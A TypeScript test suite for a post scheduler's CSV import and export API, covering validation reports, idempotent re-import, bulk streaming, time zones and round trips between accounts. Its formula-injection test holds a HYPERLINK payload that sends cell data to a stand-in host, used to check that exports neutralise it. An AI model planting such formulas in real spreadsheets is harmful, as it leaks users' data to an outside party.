/**
 * CSV import and export of posts through the public API, on both stores: the
 * check reports every problem by line and column and stores nothing; a good
 * file is imported whole (threads, several channels, media fetched from URLs,
 * settings), and importing it again creates nothing; thousands of rows stream
 * in; the export reads back into another account whose channels have the same
 * names.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { eventually, PNG_1x1, startHerald, type UntypedResult, type TestAccount, type TestHerald } from '../helpers/herald.ts';
import {
  addWebhookChannel,
  assertError,
  countRows,
  createPosts,
  entry,
  postBody,
  startFileServer,
  type Channel,
  type FileServer,
} from '../helpers/api-fixtures.ts';
import { testStores, storeSuite } from '../helpers/stores.ts';
import { startWebhookReceiver, type WebhookReceiver } from '../fakes/webhook-receiver.ts';
import { EXPORT_COLUMNS } from '../../src/contract/index.ts';
import { Herald } from '../../src/sdk/index.ts';
import { teardown } from '../helpers/teardown.ts';

const HEADER = ['date', 'timezone', 'type', 'channels', 'group', 'content', 'media', 'delay', 'settings'];
const csv = (rows: (string | number)[][], header = HEADER) => stringify([header, ...rows]);
const asCsv = { 'content-type': 'text/csv' };

for (const store of await testStores()) {
  describe(`CSV import and export (${store})`, storeSuite(store), () => {
    let herald: TestHerald;
    let receiver: WebhookReceiver;
    let files: FileServer;
    let account: TestAccount;
    let alpha: Channel;
    let beta: Channel;

    const importCsv = (text: string, dryRun = false, who = account) => who.callUntyped('POST', `/posts/import${dryRun ? '?dryRun=true' : ''}`, text, asCsv);
    const importedKeys = async (accountId: string) =>
      Number(
        (
          await herald.services.store.db
            .selectFrom('post_imports')
            .select((eb) => eb.fn.countAll().as('n'))
            .where('account_id', '=', accountId)
            .executeTakeFirstOrThrow()
        ).n,
      );
    /** Files in the account's media library (a removed file is only marked removed). */
    const liveMedia = async (who: TestAccount): Promise<number> => (await who.callUntyped('GET', '/media?limit=1')).body.total;
    const exportCsv = async (who: TestAccount, from: string, to: string, timezone?: string) => {
      const zone = timezone ? `&timezone=${encodeURIComponent(timezone)}` : '';
      const response = await fetch(`${herald.api}/posts/export?startDate=${from}&endDate=${to}${zone}`, { headers: { authorization: who.key } });
      assert.equal(response.status, 200, await response.clone().text());
      assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
      assert.match(response.headers.get('content-disposition') ?? '', /attachment; filename="herald-posts-.*\.csv"/);
      const bytes = Buffer.from(await response.arrayBuffer());
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a byte order mark, for spreadsheets');
      return bytes.toString('utf8');
    };

    /** POST /posts/import?dryRun=true of a body of `size` bytes, written until the server answers. */
    const sendChunked = (size: number, declared: boolean) =>
      new Promise<UntypedResult>((resolve, reject) => {
        const request = http.request(`${herald.api}/posts/import?dryRun=true`, {
          method: 'POST',
          headers: { authorization: account.key, ...asCsv, ...(declared ? { 'content-length': String(size) } : {}) },
        });
        let answered = false;
        request.on('response', (response) => {
          answered = true;
          let text = '';
          response.on('data', (c) => (text += c));
          response.on('end', () =>
            resolve({ status: response.statusCode ?? 0, headers: new Headers(response.headers as Record<string, string>), body: JSON.parse(text) }),
          );
        });
        request.on('error', (err) => (answered ? undefined : reject(err)));
        const chunk = Buffer.from(`channels,content\nAlpha,${'x'.repeat(64 * 1024 - 20)}\n`);
        let sent = 0;
        const write = () => {
          while (!answered && sent < size) {
            sent += chunk.length;
            if (!request.write(chunk)) return void request.once('drain', write);
          }
          if (!answered) request.end();
        };
        write();
      });

    before(async () => {
      receiver = await startWebhookReceiver();
      // The receiver refuses posts that ask for it, and gives the others an id and a link.
      receiver.respond((d, i) =>
        String(d.json?.post?.content).includes('refuse')
          ? { status: 400, body: { error: 'refused by the receiver' } }
          : { body: { id: `r${i}`, url: `https://receiver.example/${i}` } },
      );
      files = await startFileServer(PNG_1x1);
      herald = await startHerald(store, { engine: true });
      account = await herald.newAccount();
      alpha = await addWebhookChannel(account, { name: 'Alpha' }, `${receiver.url}/alpha`);
      beta = await addWebhookChannel(account, { name: 'Beta' }, `${receiver.url}/beta`);
    });
    after(() =>
      teardown(
        () => herald?.close(),
        () => receiver?.close(),
        () => files?.close(),
      ),
    );

    it('checks the whole file, reports every problem by line and column, and stores nothing', async () => {
      const text = csv([
        ['2031-03-04T10:00:00Z', '', 'schedule', 'Alpha', '', 'A good row', '', '', ''],
        ['2031-03-04 10:00', '', '', 'Alpha', '', 'No offset, no zone', '', '', ''],
        ['2031-03-04T10:00:00Z', '', 'weekly', 'Alpha', '', 'Unknown type', '', '', ''],
        ['2031-03-04T10:00:00Z', '', '', 'Alpha;Nowhere', '', 'One channel unknown', '', '', ''],
        ['2031-03-04T10:00:00Z', '', '', 'Beta', '', '', '', '', ''],
        ['2031-03-04T10:00:00Z', '', '', 'Alpha', '', 'Settings that are not JSON', '', '', '{campaign: spring}'],
        ['2031-03-04T10:00:00Z', '', '', 'Alpha', 't', 'A thread', 'ftp://example.com/a.png', '', ''],
        ['', '', '', 'Beta', 't', 'Its reply names another channel', '', 'soon', ''],
        ['2020-01-01T10:00:00Z', 'Mars/Olympus', '', 'Alpha', '', 'In the past', '', '', ''],
      ]);
      const expected = [
        { line: 3, column: 'date', message: /has no offset/ },
        { line: 4, column: 'type', message: /schedule, draft or now/ },
        { line: 5, column: 'channels', message: /"Nowhere" is neither the id nor the name of a channel/ },
        { line: 6, column: 'content', message: /is empty and there is no media/ },
        { line: 7, column: 'settings', message: /is not valid JSON/ },
        { line: 8, column: 'media', message: /"ftp:\/\/example.com\/a.png" is not an http\(s\) URL/ },
        { line: 9, column: 'channels', message: /group "t".*line 8/ },
        { line: 9, column: 'delay', message: /whole number of minutes/ },
        { line: 10, column: 'date', message: /in the past/ },
        { line: 10, column: 'timezone', message: /not an IANA time zone/ },
      ];
      const check = (problems: { line: number; column: string; message: string }[]) => {
        assert.deepEqual(
          problems.map((p) => `${p.line} ${p.column}`),
          expected.map((e) => `${e.line} ${e.column}`),
          JSON.stringify(problems, null, 1),
        );
        for (const [i, e] of expected.entries()) assert.match(problems[i].message, e.message);
      };

      const report = await importCsv(text, true);
      assert.equal(report.status, 200, JSON.stringify(report.body));
      assert.equal(report.body.valid, false);
      assert.equal(report.body.dryRun, true);
      assert.equal(report.body.rows, 9);
      check(report.body.problems);

      // The real import checks the same way and refuses the file whole: not even line 2 goes in.
      const refused = await importCsv(text);
      assertError(refused, 400, { code: 'invalid_csv', path: 'line.3.date', message: /10 problem\(s\); nothing was imported/ });
      check(refused.body.problems);
      assert.equal(refused.body.errors.length, expected.length);
      assert.equal(await countRows(herald, 'posts', account.id), 0);
      assert.equal(await liveMedia(account), 0);
      assert.equal(await importedKeys(account.id), 0);
    });

    let firstImport: string;

    it('imports a good file in one go: threads, several channels, media from URLs, settings, drafts and posts for now', async () => {
      firstImport = csv([
        [
          '2031-03-04 11:00',
          'Europe/Paris',
          'schedule',
          'alpha | Beta',
          'launch',
          'Launch day, with a comma\r\nand a second line',
          `${files.url}/file.png`,
          '',
          '{"campaign": "spring"}',
        ],
        ['', '', '', '', 'launch', 'First reply', '', '5', ''],
        ['', '', '', '', 'launch', 'Second reply', `${files.url}/file.png?second | ${files.url}/file.png`, '10', ''],
        ['2031-03-05T09:00:00+01:00', '', 'draft', beta.id, '', 'A draft', '', '', ''],
        ['', '', 'now', 'Alpha', '', 'Out at once', '', '', ''],
        ['', '', 'now', 'Alpha', '', 'The receiver will refuse this', '', '', ''],
      ]);
      const check = await importCsv(firstImport, true);
      assert.equal(check.status, 200, JSON.stringify(check.body));
      assert.deepEqual(
        { valid: check.body.valid, rows: check.body.rows, posts: check.body.posts, created: check.body.created, problems: check.body.problems },
        { valid: true, rows: 6, posts: 5, created: [], problems: [] },
      );
      assert.equal(await countRows(herald, 'posts', account.id), 0, 'a dry run stores nothing');
      assert.equal(await liveMedia(account), 0, 'a dry run fetches nothing');

      const imported = await importCsv(firstImport);
      assert.equal(imported.status, 201, JSON.stringify(imported.body));
      assert.equal(imported.body.valid, true);
      assert.deepEqual(
        imported.body.created.map((c: { line: number; integration: string }) => `${c.line} ${c.integration}`),
        // The first cell of the launch spans two lines: the draft is on line 6.
        [`2 ${alpha.id}`, `2 ${beta.id}`, `6 ${beta.id}`, `7 ${alpha.id}`, `8 ${alpha.id}`],
      );
      // Two URLs, each fetched once into the library, whatever the number of posts that use them.
      assert.equal(await liveMedia(account), 2);

      const [onAlpha, onBeta, draft] = await Promise.all(
        imported.body.created.slice(0, 3).map(async (c: { postId: string }) => (await account.callUntyped('GET', `/posts/${c.postId}`)).body),
      );
      for (const [post, channel] of [
        [onAlpha, alpha],
        [onBeta, beta],
      ] as const) {
        assert.equal(post.integration.id, channel.id);
        assert.equal(post.state, 'QUEUE');
        assert.equal(post.creationMethod, 'csv');
        // 11:00 in Paris in March is 10:00 UTC.
        assert.equal(post.publishDate, '2031-03-04T10:00:00.000Z');
        assert.equal(post.settings.campaign, 'spring');
        assert.deepEqual(
          post.thread.map((t: { content: string; delay: number; publishDate: string }) => [t.content, t.delay, t.publishDate]),
          [
            ['Launch day, with a comma\nand a second line', 0, '2031-03-04T10:00:00.000Z'],
            ['First reply', 5, '2031-03-04T10:05:00.000Z'],
            ['Second reply', 10, '2031-03-04T10:15:00.000Z'],
          ],
        );
        const media = post.thread.map((t: { image: { path: string }[] }) => t.image.map((m) => m.path));
        assert.equal(media[0].length, 1);
        assert.equal(media[1].length, 0);
        assert.equal(media[2].length, 2);
        assert.equal(media[2][1], media[0][0], 'the same URL is the same file of the library');
        for (const path of media.flat()) {
          assert.ok(path.startsWith(`${herald.url}/uploads/`), `${path} is a file of the media library`);
          assert.deepEqual(Buffer.from(await (await fetch(path)).arrayBuffer()), PNG_1x1);
        }
      }
      assert.equal(draft.state, 'DRAFT');
      assert.equal(draft.publishDate, '2031-03-05T08:00:00.000Z');

      // The posts for now go out at once, through the engine, as any other post.
      const delivered = await eventually(async () => {
        const states = await Promise.all(
          imported.body.created.slice(3).map(async (c: { postId: string }) => (await account.callUntyped('GET', `/posts/${c.postId}`)).body),
        );
        return states.every((p) => p.state === 'PUBLISHED' || p.state === 'ERROR') ? states : undefined;
      }, 10_000);
      assert.deepEqual(
        delivered.map((p) => p.state),
        ['PUBLISHED', 'ERROR'],
      );
    });

    it('importing the same file again creates nothing new', async () => {
      const counts = async () => [await countRows(herald, 'posts', account.id), await liveMedia(account), await importedKeys(account.id)];
      const before = await counts();
      const again = await importCsv(firstImport);
      assert.equal(again.status, 200, JSON.stringify(again.body));
      assert.deepEqual(
        { valid: again.body.valid, posts: again.body.posts, alreadyImported: again.body.alreadyImported, created: again.body.created },
        { valid: true, posts: 0, alreadyImported: 5, created: [] },
      );
      assert.deepEqual(await counts(), before);

      // Two identical rows are two posts; a row whose post was deleted since comes back; the others stay skipped.
      const twice = csv([
        ['2031-04-01T09:00:00Z', '', '', 'Alpha', '', 'Said twice', '', '', ''],
        ['2031-04-01T09:00:00Z', '', '', 'Alpha', '', 'Said twice', '', '', ''],
      ]);
      const first = await importCsv(twice);
      assert.equal(first.body.created.length, 2, JSON.stringify(first.body));
      assert.equal((await account.callUntyped('DELETE', `/posts/${first.body.created[1].postId}`)).status, 200);
      const second = await importCsv(twice);
      assert.equal(second.status, 201, JSON.stringify(second.body));
      assert.equal(second.body.alreadyImported, 1);
      assert.equal(second.body.created.length, 1);
      assert.equal((await importCsv(twice)).body.created.length, 0);
    });

    it('two imports of one file at the same moment create its posts once', async () => {
      const text = csv(
        Array.from({ length: 20 }, (_, i) => [`2031-05-01T09:${String(i).padStart(2, '0')}:00Z`, '', '', 'Beta', '', `At once ${i}`, '', '', '']),
      );
      const before = await countRows(herald, 'posts', account.id);
      const answers = await Promise.all([importCsv(text), importCsv(text)]);
      for (const answer of answers) assert.ok([200, 201, 409].includes(answer.status), JSON.stringify(answer.body));
      const conflict = answers.find((a) => a.status === 409);
      if (conflict) assertError(conflict, 409, { code: 'import_conflict' });
      assert.equal(await countRows(herald, 'posts', account.id), before + 20);
    });

    it('streams thousands of rows in and imports them in one transaction', async () => {
      const rows = Array.from({ length: 3000 }, (_, i) => {
        const at = new Date(Date.UTC(2032, 0, 1) + i * 60_000).toISOString();
        return i % 3 === 0 ? [at, '', '', 'Alpha', `g${i}`, `Bulk ${i}`, '', '', ''] : ['', '', '', '', `g${i - (i % 3)}`, `Reply ${i}`, '', '1', ''];
      });
      const before = await countRows(herald, 'posts', account.id);
      const imported = await importCsv(csv(rows));
      assert.equal(imported.status, 201, JSON.stringify(imported.body).slice(0, 500));
      assert.equal(imported.body.rows, 3000);
      assert.equal(imported.body.created.length, 1000);
      assert.equal(await countRows(herald, 'posts', account.id), before + 3000);
      const sample = (await account.callUntyped('GET', `/posts/${imported.body.created[500].postId}`)).body;
      assert.deepEqual(
        sample.thread.map((t: { content: string }) => t.content),
        ['Bulk 1500', 'Reply 1501', 'Reply 1502'],
      );
    });

    it('exports a range with each post’s state, link and error, in columns the import reads', async () => {
      const text = await exportCsv(account, '2031-03-01T00:00:00Z', '2031-03-31T00:00:00Z');
      const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
      assert.deepEqual(Object.keys(rows[0]), [...EXPORT_COLUMNS]);
      // A post's row is followed by the rows of its thread (same group, no channel); posts at one time come in no set order.
      const posts: Record<string, string>[][] = [];
      for (const row of rows) row.channels ? posts.push([row]) : posts[posts.length - 1].push(row);
      const seen = posts
        .map((thread) => thread.map((r) => [r.channels, r.type, r.content.split('\n')[0], r.delay, r.state].join(' / ')))
        .sort((a, b) => a[0].localeCompare(b[0]));
      assert.deepEqual(seen, [
        ['Alpha / schedule / Launch day, with a comma /  / QUEUE', ' /  / First reply / 5 / QUEUE', ' /  / Second reply / 10 / QUEUE'],
        ['Beta / draft / A draft /  / DRAFT'],
        ['Beta / schedule / Launch day, with a comma /  / QUEUE', ' /  / First reply / 5 / QUEUE', ' /  / Second reply / 10 / QUEUE'],
      ]);
      const launch = posts.find((thread) => thread[0].channels === 'Alpha')!;
      assert.equal(launch[0].date, '2031-03-04T10:00:00.000Z');
      assert.equal(launch[0].content, 'Launch day, with a comma\nand a second line');
      assert.equal(JSON.parse(launch[0].settings).campaign, 'spring');
      assert.ok(
        launch.every((r) => r.group === launch[0].group),
        'the lines of one thread are exported as one group, so a re-import keeps them one thread',
      );
      assert.notEqual(posts.find((thread) => thread[0].channels === 'Beta')![0].group, launch[0].group);
      assert.equal(launch[2].media.split('|').length, 2);

      // What went out has its link; what failed, the receiver's reason.
      const now = new Date();
      const recent = parse(await exportCsv(account, new Date(now.getTime() - 3_600_000).toISOString(), new Date(now.getTime() + 60_000).toISOString()), {
        bom: true,
        columns: true,
      }) as Record<string, string>[];
      const out = recent.find((r) => r.content === 'Out at once');
      const refused = recent.find((r) => r.content === 'The receiver will refuse this');
      assert.equal(out?.state, 'PUBLISHED');
      assert.match(out?.releaseURL ?? '', /^https:\/\/receiver\.example\/\d+$/);
      assert.equal(refused?.state, 'ERROR');
      assert.match(refused?.error ?? '', /refused by the receiver/);

      // A range of more posts than one read of the store holds: every one once, in time order, each followed by its thread.
      const bulk = parse(await exportCsv(account, '2032-01-01T00:00:00Z', '2032-12-31T00:00:00Z'), { bom: true, columns: true }) as Record<string, string>[];
      assert.equal(bulk.length, 3000);
      assert.deepEqual(
        bulk.filter((r) => r.channels).map((r) => r.content),
        Array.from({ length: 1000 }, (_, i) => `Bulk ${i * 3}`),
      );
      assert.deepEqual(
        bulk.slice(1500, 1503).map((r) => r.content),
        ['Bulk 1500', 'Reply 1501', 'Reply 1502'],
      );

      // An empty range is the header alone.
      const empty = parse(await exportCsv(account, '2040-01-01T00:00:00Z', '2040-01-02T00:00:00Z'), { bom: true }) as string[][];
      assert.deepEqual(empty, [[...EXPORT_COLUMNS]]);
    });

    it('reads its own export back into another account, channels mapped by name', async () => {
      const other = await herald.newAccount('Other account');
      await addWebhookChannel(other, { name: 'Alpha' }, `${receiver.url}/other-alpha`);
      await addWebhookChannel(other, { name: 'Beta' }, `${receiver.url}/other-beta`);
      const range = ['2031-03-01T00:00:00Z', '2031-03-31T00:00:00Z'] as const;
      // Through the SDK: the export as text, the import as a file (multipart, part "file").
      const apiUrl: string = `${herald.url}/api`;
      const sdk = (who: TestAccount) => new Herald(who.key, apiUrl, { throwOnError: true });
      const exported = await sdk(account).exportPosts({ startDate: range[0], endDate: range[1] });
      assert.equal(exported.split('\n')[0], EXPORT_COLUMNS.join(','));
      const checked = await sdk(other).importPosts(Buffer.from(exported), { dryRun: true });
      assert.deepEqual({ valid: checked.valid, posts: checked.posts }, { valid: true, posts: 3 });
      const imported = await sdk(other).importPosts(Buffer.from(exported));
      assert.equal(imported.created.length, 3);

      const shape = async (who: TestAccount) => {
        const listed = await who.callUntyped('GET', `/posts?startDate=${range[0]}&endDate=${range[1]}`);
        const posts = await Promise.all(listed.body.posts.map(async (p: { id: string }) => (await who.callUntyped('GET', `/posts/${p.id}`)).body));
        return posts
          .map((p) => ({
            channel: p.integration.name,
            state: p.state,
            publishDate: p.publishDate,
            settings: p.settings,
            thread: p.thread.map((t: { content: string; delay: number; publishDate: string; image: unknown[] }) => [
              t.content,
              t.delay,
              t.publishDate,
              t.image.length,
            ]),
          }))
          .sort((a, b) => `${a.channel}${a.publishDate}`.localeCompare(`${b.channel}${b.publishDate}`));
      };
      assert.deepEqual(await shape(other), await shape(account));
      // The files came into the other account's own library.
      assert.equal(await liveMedia(other), 2);

      // Published posts of an export are history: read back, they are skipped, never sent again (an old one is not "in the past").
      const now = Date.now();
      const recent = parse(await exportCsv(account, new Date(now - 3_600_000).toISOString(), new Date(now + 60_000).toISOString()), {
        bom: true,
        columns: true,
      }) as Record<string, string>[];
      const history = recent.filter((r) => r.state === 'PUBLISHED').map((r) => ({ ...r, date: '2020-01-01T09:00:00.000Z', media: 'not a url' }));
      assert.equal(history.length, 1);
      const skipped = await importCsv(stringify(history, { header: true }), true, other);
      assert.equal(skipped.status, 200, JSON.stringify(skipped.body));
      assert.deepEqual(
        { valid: skipped.body.valid, posts: skipped.body.posts, skippedPublished: skipped.body.skippedPublished },
        { valid: true, posts: 0, skippedPublished: 1 },
      );
    });

    it('writes the dates in a zone asked for, with their offset, and they read back as the same instants across both daylight-saving changes', async () => {
      const desk = await herald.newAccount('Berlin desk');
      await addWebhookChannel(desk, { name: 'Desk' }, `${receiver.url}/berlin-desk`);
      const copy = await herald.newAccount('Berlin copy');
      await addWebhookChannel(copy, { name: 'Desk' }, `${receiver.url}/berlin-copy`);
      // Berlin in 2031: clocks go from 02:00 to 03:00 on 30 March, and from 03:00 back to 02:00 on 26 October (02:30 happens twice).
      const cases: [instant: string, written: string][] = [
        ['2031-03-30T00:30:00.000Z', '2031-03-30T01:30:00+01:00'],
        ['2031-03-30T01:30:00.000Z', '2031-03-30T03:30:00+02:00'],
        ['2031-07-01T12:00:00.250Z', '2031-07-01T14:00:00.250+02:00'],
        ['2031-10-26T00:30:00.000Z', '2031-10-26T02:30:00+02:00'],
        ['2031-10-26T01:30:00.000Z', '2031-10-26T02:30:00+01:00'],
      ];
      const imported = await importCsv(csv(cases.map(([at], i) => [at, '', 'schedule', 'Desk', `t${i}`, `Post ${i}`, '', '', ''])), false, desk);
      assert.equal(imported.status, 201, JSON.stringify(imported.body));
      const range = ['2031-01-01T00:00:00Z', '2031-12-31T23:59:59Z'] as const;

      const text = await exportCsv(desk, ...range, 'Europe/Berlin');
      const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
      assert.deepEqual(
        rows.map((r) => [r.content, r.date, r.timezone]),
        cases.map(([, written], i) => [`Post ${i}`, written, 'Europe/Berlin']),
        'the local time with its offset, and the zone',
      );
      const back = await importCsv(text, false, copy);
      assert.equal(back.status, 201, JSON.stringify(back.body));
      const dates = async (who: TestAccount) =>
        ((await who.callUntyped('GET', `/posts?startDate=${range[0]}&endDate=${range[1]}`)).body.posts as { content: string; publishDate: string }[])
          .map((p) => [p.content, p.publishDate])
          .sort((a, b) => a[0].localeCompare(b[0]));
      assert.deepEqual(await dates(copy), await dates(desk), 'every instant read back, the repeated hour too');
      assert.deepEqual(
        (await dates(copy)).map(([, at]) => at),
        cases.map(([at]) => at),
      );

      // Without the zone, UTC as before.
      const utc = parse(await exportCsv(desk, ...range), { bom: true, columns: true }) as Record<string, string>[];
      assert.deepEqual(
        utc.map((r) => [r.date, r.timezone]),
        cases.map(([at]) => [at, '']),
      );
      for (const zone of ['Mars/Olympus', '', 'x'.repeat(101)]) {
        assertError(await desk.callUntyped('GET', `/posts/export?startDate=${range[0]}&endDate=${range[1]}&timezone=${zone}`), 400, {
          code: 'invalid_query',
          path: 'timezone',
        });
      }
    });

    it('writes no cell a spreadsheet would run as a formula, and reads every text back as it was', async () => {
      const desk = await herald.newAccount('Formula desk');
      const channel = await addWebhookChannel(desk, { name: '@Desk' }, `${receiver.url}/formula-desk`);
      const copy = await herald.newAccount('Formula copy');
      await addWebhookChannel(copy, { name: '@Desk' }, `${receiver.url}/formula-copy`);
      // [text, its cell in the file]: a quote before a text a spreadsheet would run, and one more before quotes that lead to one.
      const cases: [text: string, cell: string][] = [
        ['=HYPERLINK("https://evil.test/?d="&A1,"Click")', `'=HYPERLINK("https://evil.test/?d="&A1,"Click")`],
        ['+1 555 0100', "'+1 555 0100"],
        ['-x', "'-x"],
        ['@x', "'@x"],
        ['\tafter a tab', "'\tafter a tab"],
        ["'=SUM(1,2)", "''=SUM(1,2)"],
        ["''+two quotes", "'''+two quotes"],
        ["'a quote alone", "'a quote alone"],
        ['plain', 'plain'],
      ];
      const range = ['2033-05-01T00:00:00Z', '2033-05-31T00:00:00Z'] as const;
      await createPosts(
        desk,
        postBody(
          'schedule',
          [
            entry(
              channel.id,
              cases.map(([text]) => text),
            ),
          ],
          { date: '2033-05-02T09:00:00.000Z' },
        ),
      );

      const text = await exportCsv(desk, ...range);
      const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
      assert.deepEqual(
        rows.map((r) => r.content),
        cases.map(([, cell]) => cell),
      );
      assert.equal(rows[0].channels, "'@Desk", 'every column, the channel names too');
      for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'a cell a spreadsheet would run');

      const back = await importCsv(text, false, copy);
      assert.equal(back.status, 201, JSON.stringify(back.body));
      const [post] = (await copy.callUntyped('GET', `/posts?startDate=${range[0]}&endDate=${range[1]}`)).body.posts;
      const detail = await copy.callUntyped('GET', `/posts/${post.id}`);
      assert.deepEqual(
        detail.body.thread.map((t: { content: string }) => t.content),
        cases.map(([original]) => original),
      );
      assert.equal(detail.body.integration.name, '@Desk');
    });

    it('checks the README’s example file clean', async () => {
      const readme = fs.readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
      const example = /## CSV import and export[\s\S]*?```csv\n([\s\S]*?)```/.exec(readme)?.[1];
      assert.ok(example, 'the README has an example file');
      const newsroom = await herald.newAccount('Newsroom account');
      await addWebhookChannel(newsroom, { name: 'Newsroom' });
      await addWebhookChannel(newsroom, { name: 'Sports desk' });
      // Its dates are in 2026: moved to a year still to come whenever the test runs.
      const check = await importCsv(example.replaceAll('2026-', '2031-'), true, newsroom);
      assert.deepEqual(
        { valid: check.body.valid, rows: check.body.rows, posts: check.body.posts, problems: check.body.problems },
        { valid: true, rows: 4, posts: 4, problems: [] },
      );
    });

    it('answers bad requests with 4xx naming the fault, and changes nothing', async () => {
      const before = await countRows(herald, 'posts', account.id);
      assertError(await account.callUntyped('POST', '/posts/import?dryRun=maybe', 'content\nx', asCsv), 400, { code: 'invalid_query', path: 'dryRun' });
      assertError(await account.callUntyped('POST', '/posts/import', { content: 'json' }), 415, { code: 'unsupported_content_type' });
      const form = new FormData();
      form.append('csv', new Blob(['channels,content\nAlpha,x']), 'posts.csv');
      assertError(await account.callUntyped('POST', '/posts/import', form), 400, { code: 'invalid_multipart', path: 'csv' });
      const cut = '--b\r\ncontent-disposition: form-data; name="file"; filename="posts.csv"\r\n\r\nchannels,content\nAlpha,x\n';
      assertError(await account.callUntyped('POST', '/posts/import', cut, { 'content-type': 'multipart/form-data; boundary=b' }), 400, {
        code: 'invalid_multipart',
      });
      assertError(await account.callUntyped('GET', '/posts/export?startDate=yesterday&endDate=2031-01-01T00:00:00Z'), 400, {
        code: 'invalid_query',
        path: 'startDate',
      });
      assertError(await account.callUntyped('GET', '/posts/export?startDate=2031-01-01T00:00:00Z'), 400, { code: 'invalid_query', path: 'endDate' });
      assertError(await account.callUntyped('GET', '/posts/export?startDate=2031-02-01T00:00:00Z&endDate=2031-01-01T00:00:00Z'), 400, {
        code: 'invalid_query',
        path: 'endDate',
      });

      // Files that are not what an import needs: each said in the report.
      const problemsOf = async (text: string) => {
        const answer = await importCsv(text, true);
        assert.equal(answer.status, 200, JSON.stringify(answer.body));
        assert.equal(answer.body.valid, false);
        return answer.body.problems.map((p: { line: number; column: string; message: string }) => `${p.line} ${p.column}: ${p.message}`);
      };
      assert.match((await problemsOf(''))[0], /^1 : the file is empty/);
      assert.match((await problemsOf('channels,content\n'))[0], /^2 : the file has a header but no row/);
      assert.deepEqual(await problemsOf('channels,contnet\nAlpha,x\n'), [
        '1 contnet: is not a column of an import; the columns are date, timezone, type, channels, group, content, media, delay, settings, state, releaseURL, error',
        '1 content: is missing from the header: every import names the channels and the content',
      ]);
      assert.deepEqual(await problemsOf('date,channels,content\n2031-06-01T09:00:00Z,Alpha,"a\u0000b"\n'), [
        '2 content: must not contain the NUL character (U+0000)',
      ]);
      const deep = `${'{"a":'.repeat(70)}1${'}'.repeat(70)}`;
      assert.deepEqual(await problemsOf(csv([['2031-06-01T09:00:00Z', '', '', 'Alpha', '', 'Deep', '', '', deep]])), [
        '2 settings: nests deeper than 64 levels',
      ]);
      const [broken] = await problemsOf('date,channels,content\n2031-01-01T00:00:00Z,Alpha,"fine"\n2031-01-01T00:00:00Z,Alpha,"unclosed\n');
      assert.match(broken, /^3 : is not valid CSV/);
      const [tooMany] = await problemsOf(`channels,content\n${'Alpha,x\n'.repeat(10_001)}`);
      assert.match(tooMany, /more than 10000 rows/);
      // Over the cap: refused at once when the length is declared, cut off when it is not (a chunked body).
      assertError(await sendChunked(21 * 1024 * 1024, true), 413, { code: 'body_too_large' });
      assertError(await sendChunked(21 * 1024 * 1024, false), 413, { code: 'body_too_large' });

      // A read-only key may export but not import; a key that may not add media is told which URLs it cannot bring in.
      const readOnly = (await herald.services.accounts.createKey(account.id, 'read-only', ['posts:read'])).key;
      const asReader = (method: string, route: string, body?: string) =>
        fetch(`${herald.api}${route}`, { method, headers: { authorization: readOnly, ...asCsv }, body });
      assert.equal((await asReader('POST', '/posts/import?dryRun=true', 'channels,content\nAlpha,x')).status, 403);
      assert.equal((await asReader('GET', '/posts/export?startDate=2031-01-01T00:00:00Z&endDate=2031-12-31T00:00:00Z')).status, 200);
      const writer = { ...account, key: (await herald.services.accounts.createKey(account.id, 'posts only', ['posts:write'])).key };
      writer.callUntyped = (method, route, body, headers) => account.callUntyped(method, route, body, { ...headers, authorization: writer.key });
      const noMedia = await importCsv(csv([['2031-06-01T09:00:00Z', '', '', 'Alpha', '', 'With a picture', `${files.url}/file.png`, '', '']]), true, writer);
      assert.deepEqual(noMedia.body.problems, [
        { line: 2, column: 'media', message: `${files.url}/file.png: is not in this account's media library, and adding it needs media:write` },
      ]);
      // A URL the server cannot fetch is the import's problem on its line; what was fetched before goes again.
      const mediaBefore = await liveMedia(account);
      const unreachable = await importCsv(
        csv([
          ['2031-06-02T09:00:00Z', '', '', 'Alpha', '', 'Fine picture', `${files.url}/file.png?fresh`, '', ''],
          ['2031-06-02T10:00:00Z', '', '', 'Alpha', '', 'Missing picture', `${files.url}/missing.png`, '', ''],
        ]),
      );
      assertError(unreachable, 400, { code: 'invalid_csv', path: 'line.3.media' });
      assert.match(unreachable.body.problems[0].message, /missing\.png: the server answered 404/);
      assert.equal(await liveMedia(account), mediaBefore);
      assert.equal(await countRows(herald, 'posts', account.id), before);
    });
  });
}
